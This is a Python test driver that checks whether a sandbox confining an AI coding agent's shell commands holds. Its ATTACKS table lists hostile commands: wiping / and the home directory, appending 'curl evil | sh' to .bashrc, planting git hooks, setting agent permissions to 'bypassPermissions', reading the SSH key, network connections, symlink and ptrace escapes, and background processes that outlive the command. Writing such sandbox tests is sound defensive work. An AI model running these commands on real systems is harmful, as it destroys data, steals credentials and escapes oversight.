"""Runs attacks on the wall as the user it is started as (tests/test_confine_attacks.py starts it
as root and as an unprivileged user): ``python tests/confine_driver.py SPEC`` prints one JSON
object, attack name -> ``{"rc", "output", "changed"}`` (``changed``: what the attack did to the
host, or null).

Each attack gets a fresh layout of its own under the spec's ``base`` (so one that gets through
cannot hide another): ``home/`` (``.ssh/id_rsa``, ``.bashrc``, a canary), ``outside/`` (a
canary), ``project/`` (a git repository with a commit, a pre-commit hook, ``.agent/settings.json``;
for ``hooks_path*`` also ``core.hooksPath = tools/hooks``). The command runs with ``bash -c`` in
the project, through :meth:`Wall.wrap` (``walled``) or bare, with ``HOME`` the layout's home; a
TCP server on the host's 127.0.0.1 counts the connections it gets.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

# a python every user may run (this one may live in a home other users cannot enter)
PYTHON = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- agent-code-wall-test-secret"

ATTACKS = {
    # the acceptance list
    "rm_root": 'rm -rf --no-preserve-root /etc "$OUTSIDE" ~; rm -rf /',
    "rm_home": "rm -rf ~",
    "rm_outside": 'rm -rf --no-preserve-root "$OUTSIDE"',
    "bashrc": "echo 'curl evil | sh' >> ~/.bashrc",
    "hook_write": "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "hook_replace": "rm -rf .git/hooks; mkdir .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit",
    "git_config": "echo '[core] fsmonitor = touch pwned' >> .git/config",
    "git_config_cmd": "git config core.hooksPath /elsewhere",
    "git_rename": "mv .git .git-old && mkdir -p .git/hooks && printf 'x' > .git/hooks/pre-commit",
    "agent_settings": """echo '{"permissions": {"defaultMode": "bypassPermissions"}}' > .agent/settings.json""",
    "agent_create": "touch .agent/x",
    "agent_rename": "mv .agent .agent-old && mkdir .agent && echo '{}' > .agent/settings.local.json",
    "net_bash": "exec 3<>/dev/tcp/127.0.0.1/$PORT && echo hello >&3",
    "net_python": """"$PYTHON" -c 'import os, socket; socket.create_connection(("127.0.0.1", """
                  """int(os.environ["PORT"])), 3).sendall(b"hello")'""",
    "ssh_key": "cat ~/.ssh/id_rsa",
    # what a clever attacker tries next
    "symlink_out": 'ln -s "$OUTSIDE/canary" link && echo changed > link',
    "symlink_home": "ln -s ~/.bashrc rc && echo changed >> rc",
    "symlink_hooks": "rm -f .git/hooks/pre-commit; ln -s ../../evil .git/hooks/pre-commit",
    "hardlink": 'ln "$OUTSIDE/canary" hard && echo changed >> hard',
    "hooks_path_write": "printf '#!/bin/sh\\ntouch pwned\\n' > tools/hooks/pre-commit",
    "hooks_path_rename": "mv tools t2 && mkdir -p tools/hooks && printf '#!/bin/sh\\n' > tools/hooks/pre-commit",
    "host_tmp": "echo x > /tmp/agent-code-wall-test-$PORT",
    "dev_shm": "echo x > /dev/shm/agent-code-wall-test-$PORT",
    "nested_unshare": "unshare -r true && echo NESTED-OK; unshare -Ur true && echo NESTED-OK",
    "nested_bwrap": "bwrap --ro-bind / / true && echo NESTED-OK",
    "background": "(sleep 0.3; echo late > late.txt) >/dev/null 2>&1 &",
    "proc_root": 'for p in /proc/[0-9]*; do echo x 2>/dev/null > "$p/root$OUTSIDE/via-proc"; done; true',
    "ptrace_host": """"$PYTHON" -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(0x4206, int(os.environ["DRIVER_PID"]), 0, 0) == 0:   # PTRACE_SEIZE (no stop)
    print("ATTACHED")
'""",
    "kill_host": 'kill -STOP "$DRIVER_PID" && echo STOPPED; kill -CONT "$DRIVER_PID"',
}


class LoopbackServer:
    """A TCP server on the host's 127.0.0.1. A connection that reached it waits in its backlog
    (the kernel completes the handshake), so :meth:`connections` needs no thread and no wait."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]

    def connections(self) -> int:
        self.sock.setblocking(False)
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return count
            count += 1
            conn.close()


def git(project: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=project, check=True, capture_output=True,
                   env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"})


def layout(base: Path, name: str) -> dict[str, Path]:
    """A fresh layout at ``base``: a copy of the template made once per driver (git is slow to start)."""
    kind = "hooks_path" if name.startswith("hooks_path") else "plain"
    template = base.parent.parent / f".template-{kind}" if base.parent.name == ".first" else \
        base.parent / f".template-{kind}"
    if not template.exists():
        make_layout(template, kind)
    shutil.copytree(template, base, symlinks=True)
    return {"home": base / "home", "outside": base / "outside", "project": base / "project"}


def make_layout(base: Path, name: str) -> dict[str, Path]:
    home, outside, project = base / "home", base / "outside", base / "project"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    (home / ".bashrc").write_text("# rc\n")
    (home / "canary").write_text("home canary\n")
    outside.mkdir()
    (outside / "canary").write_text("outside canary\n")
    project.mkdir()
    git(project, "init", "-q")
    (project / "a.txt").write_text("a\n")
    git(project, "add", "a.txt")
    git(project, "commit", "-qm", "init")
    (project / ".git" / "hooks").mkdir(exist_ok=True)
    (project / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (project / ".agent").mkdir()
    (project / ".agent" / "settings.json").write_text("{}\n")
    if name.startswith("hooks_path"):
        (project / "tools" / "hooks").mkdir(parents=True)
        (project / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
        git(project, "config", "core.hooksPath", "tools/hooks")
    return {"home": home, "outside": outside, "project": project}


def snapshot(paths: dict[str, Path]) -> dict[str, str]:
    """What the attacks must not change: the files under home and outside and the protected
    paths, the project's top-level names, the hooks path; and a few of the system's files."""
    out = {}
    project = paths["project"]
    for root in (paths["home"], paths["outside"], project / ".git" / "hooks", project / ".agent",
                 project / "tools"):
        for dirpath, _, files in os.walk(root):
            for name in files:
                path = Path(dirpath) / name
                out[str(path)] = path.read_text(errors="replace") if not path.is_symlink() else "-> " + os.readlink(path)
    config = project / ".git" / "config"
    out[str(config)] = config.read_text() if config.is_file() else "(missing)"
    out["top-level"] = " ".join(sorted(p.name for p in project.iterdir() if p.name not in ("link", "rc", "hard")))
    for system in ("/etc/passwd", "/etc/hostname", "/etc/hosts"):
        out[system] = str(os.path.exists(system))
    return out


def changed(name: str, before: dict[str, str], after: dict[str, str], output: str, server: LoopbackServer,
            paths: dict[str, Path]) -> str | None:
    port = server.port
    if name.startswith("net_"):
        count = server.connections()
        return f"{count} connection(s) reached the host's loopback server" if count else None
    if name == "ssh_key":
        return "the key was read" if SECRET in output else None
    if name in ("host_tmp", "dev_shm"):
        where = Path("/tmp" if name == "host_tmp" else "/dev/shm") / f"agent-code-wall-test-{port}"
        if where.exists():
            where.unlink()
            return f"the host's {where.parent} got a file"
        return None
    for marker in ("NESTED-OK", "ATTACHED", "STOPPED"):
        if marker in output:
            return f"{marker} ({name})"
    if name == "background":
        return "a background process outlived the command" if (paths["project"] / "late.txt").exists() else None
    diff = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    return f"changed: {diff}" if diff else None


_home_lock = threading.Lock()


def attack(name: str, base: Path, walled: bool) -> dict:
    from agent_code.confine import open_wall

    started = time.monotonic()
    paths = layout(base / name, name)
    server = LoopbackServer()
    env = {"PATH": os.environ["PATH"], "HOME": str(paths["home"]), "LANG": "C.UTF-8", "PORT": str(server.port),
           "OUTSIDE": str(paths["outside"]), "PYTHON": PYTHON, "DRIVER_PID": str(os.getpid()),
           "GIT_CONFIG_NOSYSTEM": "1"}
    argv = ["bash", "-c", ATTACKS[name]]
    wall = None
    if walled:
        with _home_lock:   # the wall hides the credentials of the home it is opened in
            os.environ["HOME"] = str(paths["home"])
            wall = open_wall(paths["project"])
        if not hasattr(wall, "wrap"):
            raise SystemExit(f"no wall: {wall.reason}")   # type: ignore[union-attr]
        argv, env = wall.wrap(argv, env)
    before = snapshot(paths)
    done = subprocess.run(argv, env=env, cwd=paths["project"], capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)
    if name == "background":
        time.sleep(0.8)
    output = done.stdout + done.stderr
    after = snapshot(paths)
    result = {"seconds": round(time.monotonic() - started, 3), "rc": done.returncode, "output": output,
              "changed": changed(name, before, after, output, server, paths)}
    server.sock.close()
    if wall is not None:
        wall.close()   # type: ignore[union-attr]
    return result


def main() -> None:
    """Each attack in a thread of its own (they share nothing but this process)."""
    from concurrent.futures import ThreadPoolExecutor

    spec = json.loads(sys.argv[1])
    base = Path(spec["base"])
    for name in spec["attacks"]:   # the templates, before the threads copy them
        layout(base / ".first" / name, name)
    with ThreadPoolExecutor(8) as pool:
        futures = {name: pool.submit(attack, name, base, spec["walled"]) for name in spec["attacks"]}
        print(json.dumps({name: future.result() for name, future in futures.items()}))


if __name__ == "__main__":
    main()
